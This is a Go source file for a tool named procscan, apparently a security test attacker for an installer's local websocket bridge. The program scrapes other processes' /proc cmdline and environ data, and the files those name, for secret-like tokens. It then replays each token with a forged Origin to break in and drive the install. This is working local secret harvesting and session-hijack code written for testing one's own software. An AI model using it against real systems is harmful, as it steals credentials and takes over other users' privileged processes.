// Command procscan is the attacker of the window tests: run as another user
// (nobody) while an install shows its page, it reads every
// /proc/PID/cmdline and /proc/PID/environ it can, and every file those name,
// takes every word that could be a secret or a launch token, and offers
// each to the installer's bridge at -port the way the page does (its Origin,
// as "secret.WORD" and "launch.WORD"). It prints what it found as JSON.
//
// With -try WORD it only connects with WORD as the secret (the URL leaked),
// then tries to start, answer and cancel, and reports what the installer
// said.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"

	"github.com/gorilla/websocket"
)

type report struct {
	UID         int               `json:"uid"`
	Cmdlines    int               `json:"cmdlines"` // read
	Environs    int               `json:"environs"` // read
	EnvironsDen int               `json:"environsDenied"`
	Seen        map[string]string `json:"seen"`  // pid: command line, of the processes that matter
	Files       map[string]string `json:"files"` // path named on a command line: what reading it gave
	Words       []string          `json:"words"`
	Tried       int               `json:"tried"`
	Statuses    map[string]int    `json:"statuses"`
	Accepted    []string          `json:"accepted"`
	// -try
	Role    string   `json:"role"`
	Replies []string `json:"replies"`
}

// word is what a secret or token looks like: base64url, 16 characters up.
var word = regexp.MustCompile(`[A-Za-z0-9_-]{16,}`)

func main() {
	port := flag.Int("port", 0, "the bridge's port")
	watch := flag.String("watch", "xdg-open,launcher", "comma-separated words: command lines holding one are reported in full")
	try := flag.String("try", "", "connect with this secret and try to drive the install")
	flag.Parse()
	r := &report{UID: os.Getuid(), Seen: map[string]string{}, Files: map[string]string{}, Statuses: map[string]int{}}
	if *try != "" {
		drive(r, *port, *try)
	} else {
		scan(r, strings.Split(*watch, ","))
		attack(r, *port)
	}
	json.NewEncoder(os.Stdout).Encode(r)
}

func scan(r *report, watch []string) {
	words := map[string]bool{}
	add := func(s string) {
		for _, w := range word.FindAllString(s, -1) {
			words[w] = true
		}
	}
	self := strconv.Itoa(os.Getpid())
	pids, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range pids {
		pid := filepath.Base(dir)
		if pid == self {
			continue
		}
		if b, err := os.ReadFile(dir + "/cmdline"); err == nil && len(b) > 0 {
			r.Cmdlines++
			args := strings.Split(strings.TrimRight(string(b), "\x00"), "\x00")
			line := strings.Join(args, " ")
			for _, w := range watch {
				if w != "" && strings.Contains(line, w) {
					r.Seen[pid] = line
				}
			}
			for _, a := range args {
				add(a)
				readNamed(r, a, add)
			}
		}
		if b, err := os.ReadFile(dir + "/environ"); err == nil {
			r.Environs++
			add(strings.ReplaceAll(string(b), "\x00", " "))
		} else {
			r.EnvironsDen++
		}
	}
	for w := range words {
		r.Words = append(r.Words, w)
	}
}

// readNamed reads the file an argument names (a path or a file:// URL).
func readNamed(r *report, arg string, add func(string)) {
	path := arg
	if u, err := url.Parse(arg); err == nil && u.Scheme == "file" {
		path = u.Path
	}
	if !strings.HasPrefix(path, "/") || strings.HasPrefix(path, "/proc/") {
		return
	}
	fi, err := os.Stat(path)
	if err != nil {
		if !os.IsNotExist(err) {
			r.Files[path] = err.Error()
		}
		return
	}
	if !fi.Mode().IsRegular() || fi.Size() > 1<<20 {
		return
	}
	b, err := os.ReadFile(path)
	if err != nil {
		r.Files[path] = err.Error()
		return
	}
	if strings.HasSuffix(path, ".html") || strings.Contains(path, "seattle") {
		r.Files[path] = "read " + strconv.Itoa(len(b)) + " bytes"
	}
	add(string(b))
}

func dial(port int, protocols ...string) (*websocket.Conn, int) {
	host := fmt.Sprintf("127.0.0.1:%d", port)
	d := websocket.Dialer{Subprotocols: append([]string{"seattle.bridge.v1"}, protocols...), HandshakeTimeout: 5 * time.Second}
	ws, resp, err := d.Dial("ws://"+host+"/bridge", http.Header{"Origin": {"http://" + host}})
	if err != nil {
		if resp != nil {
			return nil, resp.StatusCode
		}
		return nil, -1
	}
	return ws, 101
}

func attack(r *report, port int) {
	for _, w := range r.Words {
		for _, p := range []string{"secret.", "launch."} {
			ws, code := dial(port, p+w)
			r.Tried++
			r.Statuses[strconv.Itoa(code)]++
			if ws != nil {
				r.Accepted = append(r.Accepted, p+w)
				ws.Close()
			}
		}
	}
}

func drive(r *report, port int, secret string) {
	ws, code := dial(port, "secret."+secret)
	r.Statuses[strconv.Itoa(code)]++
	if ws == nil {
		return
	}
	defer ws.Close()
	r.Accepted = append(r.Accepted, "secret")
	// One reader: after a read error (a deadline) the connection is done.
	type msg struct{ Type, Role, Message, ID string }
	msgs := make(chan msg, 1000)
	go func() {
		defer close(msgs)
		for {
			_, b, err := ws.ReadMessage()
			if err != nil {
				return
			}
			var m msg
			json.Unmarshal(b, &m)
			msgs <- m
		}
	}()
	var prompt string
	read := func(until time.Duration) {
		stop := time.After(until)
		for {
			select {
			case m, ok := <-msgs:
				if !ok {
					return
				}
				switch m.Type {
				case "role":
					r.Role = m.Role
				case "error":
					r.Replies = append(r.Replies, m.Message)
				case "prompt":
					prompt = m.ID
				}
			case <-stop:
				return
			}
		}
	}
	read(500 * time.Millisecond)
	if prompt == "" {
		prompt = "p1"
	}
	for _, msg := range []string{
		`{"type":"start","percent":100}`,
		`{"type":"answer","id":"` + prompt + `","choice":"continue"}`,
		`{"type":"cancel"}`,
		`{"type":"handover","id":1,"allow":true}`,
	} {
		ws.WriteMessage(websocket.TextMessage, []byte(msg))
	}
	read(time.Second)
}
